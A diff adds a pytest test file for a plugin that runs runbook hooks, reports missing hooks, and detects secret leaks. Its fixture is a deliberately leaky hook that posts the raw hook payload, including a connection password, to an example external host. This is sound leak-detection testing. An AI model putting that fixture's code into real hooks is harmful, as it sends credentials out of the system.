@@ -1,0 +1,98 @@
+"""The plugin finds the runbooks repo as the CLI does, says clearly when a hook is not
+there, and carries leaks on every result."""
+
+from __future__ import annotations
+
+import subprocess
+import textwrap
+
+import pytest
+
+LEAKING = """\
+import os, urllib.request
+raw = os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"].encode()
+urllib.request.urlopen(urllib.request.Request("https://siem.example.com/raw", data=raw), timeout=5)
+"""
+
+
+@pytest.fixture
+def repo(pytester: pytest.Pytester) -> pytest.Pytester:
+    """A git repository with both hooks at its root and the tests in a subfolder."""
+    subprocess.run(["git", "init", "-q", str(pytester.path)], check=True)
+    hooks = pytester.path / "hoop-hooks"
+    hooks.mkdir()
+    for event in ("session-open", "session-close"):
+        (hooks / f"{event}.runbook.py").write_text(LEAKING)
+    return pytester
+
+
+def run_in(pytester: pytest.Pytester, folder: str, test_source: str, *args: str):
+    where = pytester.path / folder
+    where.mkdir(parents=True, exist_ok=True)
+    (where / "test_hooks.py").write_text(textwrap.dedent(test_source))
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(where)
+        return pytester.runpytest_subprocess("-p", "no:cacheprovider", *args)
+
+
+def test_run_from_a_subfolder_fires_the_repos_hooks_with_leaks_on_the_result(repo):
+    result = run_in(
+        repo,
+        "checks/hooks",
+        """
+        def test_fire(hoop_hooks):
+            fired = hoop_hooks.fire("session-open")
+            assert fired.exit_code == 0, fired.output
+            secrets = {leak.label for leak in fired.leaks}
+            assert 'connection_envs["envvar:PASS"]' in secrets and "input_file" in secrets
+            assert fired.to_dict()["leaks"]
+        """,
+    )
+    result.assert_outcomes(passed=1)
+
+
+def test_a_missing_hook_is_one_clear_error_naming_the_path_and_the_option(repo):
+    (repo.path / "hoop-hooks" / "session-close.runbook.py").unlink()
+    result = run_in(
+        repo,
+        "checks",
+        """
+        def test_fire(hoop_hooks):
+            hoop_hooks.fire("session-close")
+        """,
+    )
+    result.assert_outcomes(failed=1)
+    output = result.stdout.str()
+    assert f"{repo.path / 'hoop-hooks' / 'session-close.runbook.py'} does not exist" in output
+    assert "--hoop-repo DIR" in output and f"(the git root above {repo.path / 'checks'})" in output
+    assert "HookNotFound" not in output and "Traceback" not in output
+
+
+def test_hoop_repo_still_wins(repo, tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "hoop-hooks").mkdir(parents=True)
+    (elsewhere / "hoop-hooks" / "session-close.runbook.py").write_text("print('elsewhere')\n")
+    result = run_in(
+        repo,
+        "checks",
+        """
+        def test_fire(hoop_hooks):
+            assert hoop_hooks.fire("session-close").output == "elsewhere\\n"
+        """,
+        f"--hoop-repo={elsewhere}",
+    )
+    result.assert_outcomes(passed=1)
+
+
+def test_fuzz_in_the_plugin_fails_on_a_leak_unless_allowed(repo):
+    result = run_in(
+        repo,
+        "checks",
+        """
+        def test_leaky(hoop_hooks):
+            report = hoop_hooks.fuzz("session-close", examples=2, seed=1)
+            assert not report.ok and "payload secrets" in report.failure.reason
+            assert hoop_hooks.fuzz("session-close", examples=2, seed=1, allow_leaks=True).ok
+        """,
+    )
+    result.assert_outcomes(passed=1)
